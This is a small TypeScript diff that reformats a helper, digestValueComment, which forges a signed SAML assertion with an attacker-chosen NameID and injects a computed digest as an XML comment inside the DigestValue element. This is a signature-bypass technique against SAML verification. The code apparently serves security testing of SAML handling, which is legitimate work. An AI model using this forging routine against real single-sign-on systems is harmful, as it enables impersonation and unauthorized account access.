@@ -70,5 +70,8 @@ export function assertionDigest(xml: string): string {
 export function digestValueComment(signedXml: string, evilNameId: string): string {
   const forged = tamperNameId(signedXml, evilNameId);
   const digest = assertionDigest(forged);
-  return forged.replace(/<ds:DigestValue>([^<]+)<\/ds:DigestValue>/, `<ds:DigestValue><!--${digest}-->$1</ds:DigestValue>`);
+  return forged.replace(
+    /<ds:DigestValue>([^<]+)<\/ds:DigestValue>/,
+    `<ds:DigestValue><!--${digest}-->$1</ds:DigestValue>`,
+  );
 }
